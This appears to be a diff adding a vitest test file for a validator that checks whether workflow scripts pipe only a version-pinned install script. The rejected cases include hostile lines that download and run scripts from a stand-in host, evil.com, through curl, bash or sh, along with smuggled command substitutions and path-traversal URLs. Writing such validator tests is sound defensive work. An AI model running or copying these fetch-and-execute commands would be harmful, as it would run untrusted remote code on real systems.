@@ -1,0 +1,30 @@
+import { expect, test } from 'vitest';
+import { pipesOneVersion } from '../../../../src/domains/config/workflows/one-version.ts';
+
+const RAW = 'https://raw.githubusercontent.com/acme/tool';
+const FIXED = `curl -sfL ${RAW}/v0.2.1/install.sh | sh`;
+
+test.each([
+  [FIXED, true],
+  [`${FIXED} -s -- -b bin v0.2.1\nmake\n`, true],
+  [`curl --proto '=https' --tlsv1.2 -sSfL "${RAW}/refs/tags/v1.55.2/i.sh" | sudo bash`, true],
+  [`wget -qO- ${RAW}/${'abcdef12'.repeat(5)}/install.sh | bash`, true],
+  ['curl -L https://github.com/acme/tool/releases/download/v1.2.3/install.sh | sh', true],
+  [`curl ${RAW}/main/v1.0.0/i.sh | sh`, false],
+  [`curl ${RAW}/main/v1.0/i.sh | sh`, false],
+  [`curl ${RAW}/v1.0.0/../main/i.sh | sh`, false],
+  [`curl ${RAW}/v1.0.0/%2e%2e/main/i.sh | sh`, false],
+  ['curl -L https://github.com/acme/tool/raw/main/v1.0.0/i.sh | sh', false],
+  ['curl -L https://github.com/acme/tool/releases/latest/download/v1.0.0/i.sh | sh', false],
+  ['curl -e https://github.com/a/b/raw/v1.0.0/x https://evil.com/i.sh | sh', false],
+  [`curl ${RAW}/v1.0.0/i.sh https://evil.com/i.sh | sh`, false],
+  [`curl ${RAW}/v1.0.0/i.sh evil.com/i.sh | sh`, false],
+  [`curl -x evil.com ${RAW}/v1.0.0/i.sh | sh`, false],
+  [`${FIXED}\nbash <(curl https://evil.com/x.sh)`, false],
+  [`${FIXED}\nsh -c "$(curl https://evil.com/x.sh)"`, false],
+  [`${FIXED}\ncurl https://evil.com/x.sh | sh`, false],
+  [`${FIXED} -s -- $(curl https://evil.com/x.sh)`, false],
+  ['make', false],
+])('%s is of one version: %s', (text, expected) => {
+  expect(pipesOneVersion(text)).toBe(expected);
+});
